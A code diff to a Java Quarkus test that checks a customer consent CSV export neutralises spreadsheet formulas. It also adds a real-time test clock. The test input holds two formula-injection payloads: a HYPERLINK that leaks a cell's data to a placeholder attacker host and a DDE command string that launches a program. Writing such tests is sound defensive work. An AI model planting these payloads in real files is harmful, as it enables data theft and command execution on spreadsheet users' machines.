@@ -1,13 +1,16 @@
 package io.comeback.web;
 
 import io.comeback.reports.NpsReport;
+import io.comeback.testing.TestClockProducer;
+import io.comeback.testing.TestData;
 import io.quarkus.test.junit.QuarkusTest;
+import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 
 import java.time.Instant;
 import java.util.Map;
 
-import static io.comeback.web.Api.given;
+import static io.comeback.testing.Api.given;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.hamcrest.Matchers.containsString;
 import static org.hamcrest.Matchers.not;
@@ -19,10 +22,20 @@ import static org.hamcrest.Matchers.not;
 @QuarkusTest
 class CsvFormulaExportTest {
 
+    /**
+     * The ledger stamps each consent change with PostgreSQL's time ({@code recorded_at DEFAULT now()}) while the
+     * export ends at the service clock's now: that clock runs with the real one here, as in production, so what was
+     * recorded a moment ago is inside the export.
+     */
+    @BeforeEach
+    void clockRunsWithRealTime() {
+        TestClockProducer.CLOCK.ticking();
+    }
+
     @Test
     void consentExportWritesFormulaCellsAsText() {
-        String id = Api.uniqueId("formula");
-        String phone = Api.uniqueNorwegianMobile();
+        String id = TestData.id("formula");
+        String phone = TestData.norwegianMobile();
         given().body(Map.of("phone", phone, "consent", Map.of("status", "opted_in",
                         "source", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "text", "@SUM(1+1)*cmd|' /C calc'!A0")))
                 .put("/api/customers/" + id).then().statusCode(201);
